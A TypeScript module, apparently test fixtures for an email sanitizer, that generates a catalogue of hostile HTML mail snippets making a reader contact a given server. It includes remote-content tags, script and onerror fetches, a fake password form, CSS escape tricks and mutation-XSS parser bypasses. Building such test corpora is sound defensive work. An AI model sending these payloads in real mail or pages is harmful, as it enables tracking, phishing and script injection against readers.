/** Ways by which mail has made a reader ask a server for something. `to` stands for the server's address. */
export function hostileMail(to: string): Readonly<Record<string, string>> {
  const bare = to.replace(/^http:/, '');
  return { ...elements(to, bare), ...styles(to, bare), ...secondParser(to), ...gaps(to) };
}

function elements(to: string, bare: string): Record<string, string> {
  const svg = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
  return {
    preconnect: `<link rel=preconnect href="${to}">`,
    prefetch: `<link rel="prefetch dns-prefetch" href="${bare}p">`,
    'style sheet': `<link rel=stylesheet href="${to}a.css">`,
    icon: `<link rel=icon href="${to}favicon.ico">`,
    refresh: `<meta http-equiv=refresh content="0;url=${to}">`,
    base: `<base href="${to}"><img src="a.png"><a href="b">b</a>`,
    form: `<form action="${to}"><input type=password autofocus><input type=image src="${to}i"><button formaction="${to}">Unlock</button></form>`,
    script: `<script src="${to}a.js"></script><script>new Image().src='${to}'</script>`,
    handlers: `<img src=x onerror="fetch('${to}')"><p onclick="fetch('${to}')">p</p><details open ontoggle="fetch('${to}')"></details>`,
    picture: `<img src="${to}a.png">`,
    'picture without a scheme': `<img src="${bare}a.png"><img src="\\\\${bare.slice(2)}a.png">`,
    'picture with blanks': `<img src=" \t${to.replace('tp:', 'tp\n:')}a.png"><img src="&#104;ttp:${bare}a.png">`,
    srcset: `<img srcset="${to}a 1x" sizes=10px><picture><source srcset="${to}b"><img></picture>`,
    lowsrc: `<img lowsrc="${to}a" dynsrc="${to}b" longdesc="${to}c" imagesrcset="${to}d">`,
    background: `<body background="${to}a"><table background="${to}b"><tr background="${to}c"><td background="${to}d">x</table>`,
    frames: `<iframe src="${to}"></iframe><iframe srcdoc="<img src='${to}'>"></iframe><frameset><frame src="${to}"></frameset>`,
    objects: `<object data="${to}a"></object><embed src="${to}b"><applet code="${to}c"></applet><param name=src value="${to}d">`,
    media: `<video src="${to}a" poster="${to}b" autoplay></video><audio src="${to}c" autoplay></audio><video><source src="${to}d"><track src="${to}e" default></video>`,
    portal: `<portal src="${to}"></portal><fencedframe src="${to}"></fencedframe><bgsound src="${to}"><isindex action="${to}">`,
    ping: `<a href="https://contoso.example" ping="${to}" download target=_top>a</a>`,
    svg: `<svg ${svg}><image href="${to}a"/><image xlink:href="${to}b"/><use href="${to}c#a"/><feImage href="${to}d"/><script href="${to}e"/></svg>`,
    'svg animation': `<svg><a><animate attributeName=href values="${to}"/></a><set attributeName=href to="${to}"/></svg>`,
    prefetching: `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${to}"]}]}</script>`,
    template: `<template shadowrootmode=open><img src="${to}"></template><div><template shadowroot=open><img src="${to}"></template></div>`,
    noscript: `<noscript><img src="${to}"></noscript>`,
    'conditional comment': `<!--[if gte mso 9]><img src="${to}"><![endif]--><!--><img src="${to}">-->`,
    'old names': `<image src="${to}"><layer src="${to}"></layer><xml src="${to}"></xml><div src="${to}" data="${to}" cite="${to}"></div>`,
    quote: `<blockquote cite="${to}">q</blockquote><q cite="${to}">q</q><head profile="${to}"><html manifest="${to}">`,
  };
}

function styles(to: string, bare: string): Record<string, string> {
  const inAttribute = (css: string): string => `<p style="${css}">x</p>`;
  const inSheet = (css: string): string => `<style>${css}</style><p class=a>x</p><ul><li>x</ul>`;
  return {
    'css url': inAttribute(`background: url(${to}a)`) + inSheet(`p { background: url('${to}b') } li { list-style: url(${bare}c) }`),
    'css import': inSheet(`@import "${to}a";@import url(${to}b);@IMPORT '${bare}c' screen;`),
    'css escapes': inAttribute(`background: u\\72l(${to}a); cursor: \\75\\000072\\6c (${to}b), auto`) + inSheet(`@\\69mport "${to}c"; p { background: \\55 RL(${to}d) }`),
    'css joined escapes': inAttribute(`background: ur\\6\\63 (${to}a)`),
    'css image-set': inAttribute(`background: image-set('${to}a' 1x)`) + inSheet(`p { background: -webkit-image-set(url(${to}b) 1x) }`),
    'css fonts': inSheet(`@font-face { font-family: a; src: url(${to}a), src('${to}b') } p { font-family: a }`),
    'css other': inSheet(`p { content: url(${to}a); filter: url(${to}b#f); mask: url(${to}c); border-image: url(${to}d); behavior: url(${to}e) } p::before { content: image('${to}f') }`),
    'css variables': inSheet(`:root { --a: url(${to}a) } p { background: var(--a) }`),
    'css broken': inAttribute(`background: url(${to}a`) + inSheet(`p { background: url("${to}(b)") } @namespace url(${to}c); @document url(${to}d) {}`),
    'css expression': inAttribute(`width: expression(new Image().src='${to}'); -moz-binding: url(${to}a)`),
  };
}

function secondParser(to: string): Record<string, string> {
  const image = `<img src=${to}>`;
  return {
    'math style': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${image}">`,
    'form math': `<form><math><mtext></form><form><mglyph><style></math>${image}`,
    'svg style': `<svg></p><style><a id="</style>${image}">`,
    'svg desc': `<svg><desc><style>${image}</style></desc></svg><svg><title><style><${image}`,
    noembed: `<noembed><a title="</noembed>${image}"></noembed><xmp><p title="</xmp>${image}">`,
    'select style': `<select><style></select>${image}</style></select>`,
    'table style': `<table><style><td title="</style>${image}"></table>`,
    comment: `<p title="--><!-- </style>${image}">x</p><style>a::after { content: "</style>${image}" }`,
  };
}

/** What a deletion between `<` and a letter would have made. */
function gaps(to: string): Record<string, string> {
  const inside: Record<string, string> = {
    frame: `<iframe src="${to}?leak"></iframe>`,
    preconnect: `<link rel=preconnect href="${to}">`,
    'preconnect crossorigin': `<link rel=preconnect crossorigin href="${to}">`,
    refresh: `<meta http-equiv=refresh content="0;url=${to}">`,
    base: `<base href="${to}"><img src=a.png>`,
    form: `<form action="${to}"><input type=password><button>Unlock</button></form>`,
    script: `<script>new Image().src="${to}"</script>`,
    picture: `<img src="${to}">`,
    svg: `<svg><image href="${to}"/></svg>`,
  };
  return Object.fromEntries(
    Object.entries(inside).flatMap(([name, markup]) =>
      ['@import;', '@import x;', 'url()', 'image-set()', '\\75rl()', '\\'].map((gap) => [
        `${name} past ${gap}`,
        `<style>${`</style>${markup}`.replaceAll('<', `<${gap}`)}</style><p style='${`</style>${markup}`.replaceAll('<', `<${gap}`)}'>Hi</p>`,
      ]),
    ),
  );
}
